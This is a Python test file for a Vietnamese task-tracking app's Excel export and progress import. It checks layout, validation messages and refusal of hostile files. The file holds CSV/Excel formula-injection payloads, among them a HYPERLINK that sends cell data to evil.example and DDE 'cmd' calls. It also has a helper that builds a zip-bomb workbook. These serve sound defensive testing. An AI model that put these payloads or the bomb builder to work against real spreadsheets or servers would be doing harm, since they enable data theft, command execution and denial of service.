"""The Excel task sheet: what the export holds, and the round trip of progress filled in."""

from __future__ import annotations

import re
from io import BytesIO

import pytest
import time_machine
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from tests.outputs.conftest import AS_OF, assignment, at
from theodoi.outputs.excel import BY_KEY, INFO_SHEET, build_sheet, import_progress, sheet_title
from theodoi.outputs.registry import render
from theodoi.tracking.models import ProgressReport

pytestmark = pytest.mark.django_db


def exported(plan, agency=None) -> bytes:
    return render("tasks", "xlsx", build_sheet(plan, AS_OF, agency)).content


def ooxml_text(value: object) -> object:
    """A cell's text as Excel shows it: a control character is stored escaped ("\\r" as
    "_x000D_", the file format's rule, which XlsxWriter follows); openpyxl leaves it so."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def header_index(ws) -> dict[str, int]:
    """Column number (1-based) of each column key, read from the header row."""
    headers = [c.value for c in ws[1]]
    return {key: headers.index(col.header) + 1 for key, col in BY_KEY.items()}


def rows_of(ws) -> list[dict[str, object]]:
    cols = header_index(ws)
    return [
        {key: ws.cell(row=r, column=c).value for key, c in cols.items()}
        for r in range(2, ws.max_row + 1)
    ]


def fill(content: bytes, edits: dict[tuple[str, str], dict[str, object]]) -> bytes:
    """The workbook with cells filled in: {(sheet, task code + agency name): {key: value}}."""
    book = load_workbook(BytesIO(content))
    for (sheet, who), values in edits.items():
        ws = book[sheet]
        cols = header_index(ws)
        for r in range(2, ws.max_row + 1):
            code = ws.cell(row=r, column=cols["code"]).value
            agency = ws.cell(row=r, column=cols["agency"]).value
            if f"{code} {agency}" == who:
                for key, value in values.items():
                    ws.cell(row=r, column=cols[key]).value = value
                break
        else:
            raise AssertionError(f"no row {who} in {sheet}")
    out = BytesIO()
    book.save(out)
    return out.getvalue()


# -- export ---------------------------------------------------------------------------------


def test_the_export_has_a_sheet_per_section_with_vietnamese_headers(reported_plan):
    book = load_workbook(BytesIO(exported(reported_plan)))
    assert book.sheetnames == [INFO_SHEET, "I", "II", "III.A"]
    ws = book["I"]
    assert [c.value for c in ws[1]][:4] == ["Mã phân công", "Mã", "Nhiệm vụ",
                                            "Kết quả, sản phẩm"]
    assert ws.freeze_panes == "C2"
    assert ws.auto_filter.ref == f"A1:O{ws.max_row}"
    assert len(ws.data_validations.dataValidation) == 2


def test_the_export_has_one_row_per_task_and_agency_with_its_status(reported_plan):
    book = load_workbook(BytesIO(exported(reported_plan)))
    rows = rows_of(book["I"])
    assert [(r["code"], r["agency"], r["role"], r["status"]) for r in rows] == [
        ("I.1", "Bộ A", "Chủ trì", "Quá hạn"),
        ("I.1", "Ủy ban nhân dân tỉnh B", "Phối hợp", "Quá hạn"),
        ("I.2", "Bộ A", "Chủ trì", "Hoàn thành"),
        ("I.2", "Ủy ban nhân dân tỉnh B", "Chủ trì", "Quá hạn"),
        ("I.2", "Bộ Cũ", "Chủ trì", "Quá hạn"),
    ]
    assert rows[0]["period"] == "Tháng 4/2024"  # the first month not reported
    assert rows[2]["latest"] == "25/04/2024: Đã hoàn thành (100%)"
    assert rows[3]["due"].date().isoformat() == "2024-04-30"
    assert book[INFO_SHEET]["B4"].value == reported_plan.pk


def test_an_agency_export_holds_only_its_rows(reported_plan, agency_b):
    book = load_workbook(BytesIO(exported(reported_plan, agency_b)))
    agencies = {r["agency"] for name in book.sheetnames[1:] for r in rows_of(book[name])}
    assert agencies == {"Ủy ban nhân dân tỉnh B"}
    # II.1's partners are a group listed once: nobody in it owes a contribution yet.
    assert book.sheetnames == [INFO_SHEET, "I", "III.A"]


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_excel_formula_injection_cells_are_written_as_text(reported_plan, hostile):
    from theodoi.tracking.models import Task

    Task.objects.filter(plan=reported_plan, code="I.1").update(name=hostile, result=hostile)
    reported_plan.title = hostile
    reported_plan.save(update_fields=["title"])
    book = load_workbook(BytesIO(exported(reported_plan)))
    ws = book["I"]
    cols = header_index(ws)
    for column in ("name", "result"):
        cell = ws.cell(row=2, column=cols[column])
        assert (ooxml_text(cell.value), cell.data_type) == (hostile, "s")
        assert cell.quotePrefix
    title = book[INFO_SHEET]["B1"]
    assert (ooxml_text(title.value), title.data_type) == (hostile, "s")


def test_sheet_names_follow_excel_rules():
    taken: set[str] = set()
    assert sheet_title("", taken) == "Chung"
    assert sheet_title("IV/A", taken) == "IV-A"
    assert sheet_title("IV-A", taken) == "IV-A (2)"
    assert len(sheet_title("X" * 40, taken)) == 31


# -- import ---------------------------------------------------------------------------------


def test_a_valid_sheet_becomes_pending_reports(reported_plan, reporter_b):
    content = fill(exported(reported_plan, reporter_b.profile.agency), {
        ("I", "I.2 Ủy ban nhân dân tỉnh B"): {
            "report_status": "Đã hoàn thành", "percent": 100,
            "text": "Kế hoạch số 12/KH-UBND", "links": "https://b.gov.vn/kh12; http://b.vn/x",
        },
        ("I", "I.1 Ủy ban nhân dân tỉnh B"): {"report_status": "Đang triển khai",
                                               "period": "2024-05"},
        ("III.A", "III.A.1 Ủy ban nhân dân tỉnh B"): {"report_status": "dang trien khai",
                                                      "percent": "80%"},
    })
    before = ProgressReport.objects.count()
    with time_machine.travel(at(2024, 6, 21), tick=False):
        result = import_progress(content, reporter_b)
    assert result.ok, [str(e) for e in result.errors]
    assert len(result.reports) == 3
    assert ProgressReport.objects.count() == before + 3
    done = assignment(reported_plan, "I.2", "tinh-b").reports.get()
    assert (done.status, done.percent, done.text, done.review_state) == (
        "done", 100, "Kế hoạch số 12/KH-UBND", "pending")
    assert done.links == ["https://b.gov.vn/kh12", "http://b.vn/x"]
    monthly = assignment(reported_plan, "I.1", "tinh-b").reports.get()
    assert monthly.period == "2024-05"
    latest = assignment(reported_plan, "III.A.1", "tinh-b").reports.latest("created_at")
    assert latest.percent == 80


def test_an_invalid_sheet_lists_every_error_by_row_and_column_and_writes_nothing(
    reported_plan, reporter_b
):
    content = fill(exported(reported_plan), {
        # valid on its own: must not be written either
        ("I", "I.2 Ủy ban nhân dân tỉnh B"): {"report_status": "Đã hoàn thành"},
        ("I", "I.1 Bộ A"): {"report_status": "Đang triển khai"},  # not tỉnh B's row
        ("I", "I.1 Ủy ban nhân dân tỉnh B"): {"report_status": "Xong", "percent": 120},
        ("III.A", "III.A.1 Ủy ban nhân dân tỉnh B"): {
            "report_status": "Đã hoàn thành", "percent": 60, "links": "www.example.vn"},
    })
    before = ProgressReport.objects.count()
    result = import_progress(content, reporter_b)
    assert not result.ok
    assert result.reports == []
    assert ProgressReport.objects.count() == before
    messages = [str(e) for e in result.errors]
    assert messages == [
        "Trang «I», dòng 2, cột «Mã phân công»: bạn không được báo cáo thay Bộ A về nhiệm vụ I.1",
        "Trang «I», dòng 3, cột «Tiến độ»: «Xong» không hợp lệ; chọn một trong: "
        "Chưa bắt đầu, Đang thực hiện, Đã hoàn thành, Không thể thực hiện",
        "Trang «I», dòng 3, cột «Tỷ lệ hoàn thành (%)»: «120» không phải số nguyên "
        "từ 0 đến 100",
        "Trang «III.A», dòng 2, cột «Tỷ lệ hoàn thành (%)»: nhiệm vụ đã hoàn thành thì "
        "tỷ lệ là 100",
        "Trang «III.A», dòng 2, cột «Đường dẫn minh chứng»: «www.example.vn» không phải "
        "đường dẫn bắt đầu bằng http:// hoặc https://",
    ]


def test_edited_codes_and_bad_periods_are_caught(reported_plan, reporter_b):
    content = fill(exported(reported_plan, reporter_b.profile.agency), {
        ("I", "I.1 Ủy ban nhân dân tỉnh B"): {"report_status": "Đang triển khai",
                                               "period": "2024-Q2"},
        ("I", "I.2 Ủy ban nhân dân tỉnh B"): {"report_status": "Đã hoàn thành",
                                               "code": "I.9"},
        ("III.A", "III.A.1 Ủy ban nhân dân tỉnh B"): {"report_status": "Đang triển khai",
                                                      "period": "2024-06"},
    })
    messages = [str(e) for e in import_progress(content, reporter_b).errors]
    assert messages == [
        "Trang «I», dòng 2, cột «Kỳ báo cáo»: kỳ «Quý II/2024» không đúng: nhiệm vụ "
        "báo cáo mỗi tháng một lần, ví dụ Tháng 4/2024",
        "Trang «I», dòng 3, cột «Mã»: mã «I.9» không khớp phân công "
        "(nhiệm vụ I.2); đừng sửa hai cột mã",
        "Trang «III.A», dòng 2, cột «Kỳ báo cáo»: nhiệm vụ không định kỳ: để trống kỳ báo cáo",
    ]


def test_a_file_that_is_not_a_workbook_is_refused(reporter_b):
    result = import_progress(b"not a spreadsheet", reporter_b)
    assert [str(e) for e in result.errors] == [
        "tệp không phải bảng tính Excel (.xlsx) đọc được"]


def test_a_sheet_with_nothing_filled_in_says_so(reported_plan, reporter_b):
    result = import_progress(exported(reported_plan), reporter_b)
    assert [str(e) for e in result.errors] == ["tệp không có dòng nào được điền tiến độ"]


def test_a_coordinator_may_report_for_any_agency(reported_plan, coordinator):
    content = fill(exported(reported_plan), {
        ("I", "I.2 Bộ Cũ"): {"report_status": "Không thể thực hiện",
                              "text": "Bộ đã sáp nhập"},
    })
    result = import_progress(content, coordinator)
    assert result.ok
    assert result.reports[0].status == "cannot_do"


# -- hostile workbooks ----------------------------------------------------------------------


def bomb(content: bytes, cells: int, member: str = "xl/worksheets/sheet2.xml") -> bytes:
    """The workbook with one sheet replaced by `cells` identical cells (15 per row).

    Cells and rows without coordinates are valid OOXML, and identical XML compresses
    about a thousand times: 3 million cells fit in well under 100 KB.
    """
    import zipfile

    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as src, zipfile.ZipFile(
        out, "w", zipfile.ZIP_DEFLATED, compresslevel=9
    ) as dst:
        for info in src.infolist():
            if info.filename != member:
                dst.writestr(info.filename, src.read(info.filename))
                continue
            row = "<row>" + '<c t="n"><v>1</v></c>' * 15 + "</row>"
            rows = cells // 15
            with dst.open(member, "w") as fh:
                fh.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://'
                         b'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                chunk = (row * 1000).encode()
                for _ in range(rows // 1000):
                    fh.write(chunk)
                fh.write(b"</sheetData></worksheet>")
    return out.getvalue()


@pytest.mark.slow
def test_excel_zip_bomb_is_refused_before_it_fills_memory(reported_plan, reporter_b):
    import time
    import tracemalloc

    content = bomb(exported(reported_plan, reporter_b.profile.agency), 3_000_000)
    assert len(content) < 400 * 1024  # the file was 96 KB
    before = ProgressReport.objects.count()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = import_progress(content, reporter_b)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 10
    assert peak < 32 * 1024 * 1024, f"peak {peak // 2**20} MB"
    assert [str(e) for e in result.errors] == [
        "Tệp Excel bất thường: giải nén ra quá lớn (nghi là bom nén), từ chối đọc"]
    assert ProgressReport.objects.count() == before


def test_excel_import_refuses_a_workbook_past_the_row_limit(
    reported_plan, reporter_b, monkeypatch
):
    from openpyxl import Workbook

    import theodoi.outputs.excel as excel

    monkeypatch.setattr(excel, "MAX_IMPORT_ROWS", 100)
    book = Workbook()
    ws = book.active
    ws.append([c.header for c in excel.COLUMNS])
    for n in range(500):
        ws.append([n + 1, "I.1", "x", "", "", "", "", "", "", "", "", "Đã hoàn thành"])
    out = BytesIO()
    book.save(out)
    result = import_progress(out.getvalue(), reporter_b)
    assert [str(e) for e in result.errors] == [
        "tệp quá lớn: tối đa 100 dòng và 1.000.000 ô; hãy dùng tệp xuất từ hệ thống"]


def test_the_period_column_reads_as_people_write_it_and_comes_back_as_its_key(
        reported_plan, reporter_b):
    book = load_workbook(BytesIO(exported(reported_plan, reporter_b.profile.agency)))
    periods = {r["period"] for r in rows_of(book["I"]) if r["period"]}
    assert periods == {"Tháng 4/2024"}  # not "2024-04"
    content = fill(exported(reported_plan, reporter_b.profile.agency), {
        ("I", "I.1 Ủy ban nhân dân tỉnh B"): {"report_status": "Đang thực hiện",
                                               "period": "tháng 5/2024"},
    })
    with time_machine.travel(at(2024, 6, 21), tick=False):
        result = import_progress(content, reporter_b)
    assert result.ok, [str(e) for e in result.errors]
    assert result.reports[0].period == "2024-05"


def test_a_workbook_exported_with_the_old_headers_still_imports(reported_plan, reporter_b):
    content = fill(exported(reported_plan, reporter_b.profile.agency), {
        # (a note: a row that only repeats the standing status says nothing new)
        ("I", "I.2 Ủy ban nhân dân tỉnh B"): {"report_status": "Chưa triển khai",
                                               "text": "Đang chuẩn bị kế hoạch kiểm tra"},
    })
    book = load_workbook(BytesIO(content))
    for ws in book.worksheets[1:]:
        ws.cell(row=1, column=header_index(ws)["code"]).value = "Mã nhiệm vụ"
    old = BytesIO()
    book.save(old)
    result = import_progress(old.getvalue(), reporter_b)
    assert result.ok, [str(e) for e in result.errors]
    assert [r.status for r in result.reports] == ["not_started"]


def test_every_row_has_the_styles_of_its_column(reported_plan):
    """Regression for the faster styling (a column's cells copy its first data cell's
    style): the last row is bordered, wrapped, yellow where a person fills in, its code and
    period are text and its due date a date; and the quote prefix of a formula-like cell
    on a later row is its own, not lost to the copy."""
    from theodoi.outputs.excel import COLUMNS
    from theodoi.tracking.models import Task

    Task.objects.filter(plan=reported_plan, code="I.1").update(name="=1+1")
    ws = load_workbook(BytesIO(exported(reported_plan)))["I"]
    cols = header_index(ws)
    last = ws.max_row
    for column in COLUMNS:
        cell = ws.cell(row=last, column=cols[column.key])
        assert cell.border.left.style == "thin" and cell.alignment.wrap_text
        # (the colour's first byte, alpha, is 00 or FF by the writer; Excel ignores it)
        assert (cell.fill.fgColor.rgb[-6:] == "FFF2CC") is column.fill_in, column.key
    assert ws.cell(row=last, column=cols["code"]).number_format == "@"
    assert ws.cell(row=last, column=cols["period"]).number_format == "@"
    assert ws.cell(row=last, column=cols["due"]).number_format == "DD/MM/YYYY"
    partner_row = ws.cell(row=3, column=cols["name"])  # I.1 again, for its partner
    assert (partner_row.value, partner_row.quotePrefix) == ("=1+1", True)
    assert not ws.cell(row=last, column=cols["name"]).quotePrefix


def test_the_written_workbook_reads_back_as_it_was_built(reported_plan):
    """The workbook as the importer streams it (read-only) holds every built row, each
    cell of its type: ids are numbers, due dates dates, codes and periods text."""
    from datetime import date, datetime

    sheet = build_sheet(reported_plan, AS_OF)
    book = load_workbook(BytesIO(render("tasks", "xlsx", sheet).content), read_only=True)
    assert book.sheetnames == [INFO_SHEET, *(p.title for p in sheet.parts)]
    keys = list(BY_KEY)
    for part in sheet.parts:
        read = list(book[part.title].iter_rows(values_only=True))
        assert list(read[0]) == [c.header for c in BY_KEY.values()]
        assert len(read) == len(part.rows) + 1
        for built, values in zip(part.rows, read[1:], strict=True):
            got = dict(zip(keys, values, strict=True))
            for key in keys:
                want = built.get(key) or None  # "" is written as an empty cell
                if isinstance(want, date):
                    assert isinstance(got[key], datetime) and got[key].date() == want
                else:
                    assert got[key] == want, (part.title, key)
            assert isinstance(got["assignment"], int)
    book.close()


def test_the_header_row_and_the_instructions_keep_their_look(reported_plan):
    """The header row: bold, shaded blue, centred, wrapped, bordered, 32 points high; the
    instructions' labels bold and their texts wrapped; the drop-down and the 0-100 rule
    on the rows below the header."""
    book = load_workbook(BytesIO(exported(reported_plan)))
    ws = book["I"]
    for cell in ws[1]:
        assert cell.font.b and cell.fill.fill_type == "solid"
        assert cell.fill.fgColor.rgb[-6:] == "D9E1F2"
        assert (cell.alignment.horizontal, cell.alignment.vertical) == ("center", "center")
        assert cell.alignment.wrap_text and cell.border.bottom.style == "thin"
    assert round(ws.row_dimensions[1].height) == 32
    assert ws.column_dimensions["C"].width >= 48  # the task's name: the widest text
    end = ws.max_row
    rules = {d.type: d for d in ws.data_validations.dataValidation}
    status, share = (get_column_letter(list(BY_KEY).index(key) + 1)
                     for key in ("report_status", "percent"))
    assert str(rules["list"].sqref) == f"{status}2:{status}{end}"
    assert str(rules["whole"].sqref) == f"{share}2:{share}{end}"
    assert rules["list"].formula1 == ('"Chưa bắt đầu,Đang thực hiện,Đã hoàn thành,'
                                      'Không thể thực hiện"')
    assert (rules["whole"].formula1, rules["whole"].formula2) == ("0", "100")
    assert rules["list"].showErrorMessage and rules["whole"].showErrorMessage
    info = book[INFO_SHEET]
    assert info["A1"].font.b and info["B10"].alignment.wrap_text
    assert book.properties.creator == "theodoi"


def test_a_task_name_with_a_control_character_exports(reported_plan):
    """Regression: a vertical tab (a line break of some Word files) in a task's name made
    openpyxl refuse the cell and the export fail; the file format escapes it."""
    from theodoi.tracking.models import Task

    Task.objects.filter(plan=reported_plan, code="I.1").update(name="Dòng một\x0bdòng hai")
    ws = load_workbook(BytesIO(exported(reported_plan)))["I"]
    cell = ws.cell(row=2, column=header_index(ws)["name"])
    assert ooxml_text(cell.value) == "Dòng một\x0bdòng hai"


def test_sheet_names_differing_only_in_case_are_made_unique():
    """Excel compares sheet names ignoring case (XlsxWriter refuses a workbook that has
    both "a" and "A"); a name cut at 31 characters drops an apostrophe left at its end."""
    taken: set[str] = set()
    assert sheet_title("A", taken) == "A"
    assert sheet_title("a", taken) == "a (2)"
    assert sheet_title("hướng dẫn", taken) == "hướng dẫn (2)"  # the instructions' sheet
    assert sheet_title("X" * 30 + "'Y", taken) == "X" * 30
